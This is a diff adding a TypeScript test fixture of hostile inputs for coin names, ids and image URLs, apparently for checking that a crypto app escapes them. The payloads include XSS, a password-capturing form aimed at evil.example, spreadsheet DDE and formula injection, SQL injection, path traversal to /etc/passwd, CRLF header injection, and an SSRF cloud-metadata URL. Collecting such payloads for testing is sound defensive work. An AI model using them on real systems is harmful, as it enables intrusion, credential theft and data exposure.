@@ -1,0 +1,67 @@
+/** What somebody may write into the name or symbol of a coin so that it is read as something else: markup, script, address, formula. */
+export const HOSTILE_NAMES = [
+  "<script>window.__ran=1</script>",
+  "</script><script>window.__ran=1</script>",
+  "<!--<script>window.__ran=1</script>-->",
+  '"><img src=x onerror="window.__ran=1">',
+  "'><svg/onload=window.__ran=1>",
+  "<iframe srcdoc='<script>top.__ran=1</script>'></iframe>",
+  "<math><mtext></p><style><img src=x onerror=window.__ran=1></style></mtext></math>",
+  "<a href=javascript:window.__ran=1>Click</a>",
+  "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<style>*{display:none}</style>",
+  "</title></textarea></style></noscript><script>window.__ran=1</script>",
+  "<form action=//evil.example><input name=password autofocus onfocus=window.__ran=1>",
+  "{{constructor.constructor('window.__ran=1')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless template would evaluate
+  "${window.__ran=1}`;window.__ran=1//",
+  "&lt;img src=x onerror=window.__ran=1&gt;",
+  "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
+  "\u2028window.__ran=1\u2029",
+  '"}];window.__ran=1;//',
+  "]]><!DOCTYPE html>",
+  "javascript:window.__ran=1",
+  "data:text/html,<script>window.__ran=1</script>",
+  '=HYPERLINK("https://evil.example","win")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1-1",
+  "'; DROP TABLE alert_rules; --",
+  "\u202Egnp.exe\u2066",
+  "\u0000\u0007\u001B[31mred\u001B[0m",
+  "$1$&$`$'",
+  "%3Cscript%3E%0d%0aSet-Cookie:%20a=b",
+  "__proto__",
+  "*bold* [click](https://evil.example) @everyone <@1> ||x|| `code`",
+  `${"W".repeat(500)}`,
+  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
+  "",
+] as const;
+
+/** Ids stand in addresses, in keys and in selectors. */
+export const HOSTILE_IDS = [
+  '"><img src=x onerror=window.__ran=1>',
+  "javascript:window.__ran=1",
+  "../../etc/passwd",
+  "a/b?c=d#e",
+  "__proto__",
+  "constructor",
+  "hasOwnProperty",
+  "%2e%2e%2f",
+  "a:b:c",
+  "*",
+  "bitcoin\r\nSet-Cookie: a=b",
+  "名前-🚀",
+  "' OR 1=1 --",
+  "x".repeat(199),
+  "x".repeat(201),
+] as const;
+
+/** Where a picture may be fetched from, were it believed. */
+export const HOSTILE_IMAGES = [
+  "javascript:window.__ran=1",
+  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__ran=1'/>",
+  "https://evil.example/track.png",
+  "//evil.example/track.png",
+  'https://evil.example/x.png" onerror="window.__ran=1',
+  "http://169.254.169.254/latest/meta-data/",
+] as const;
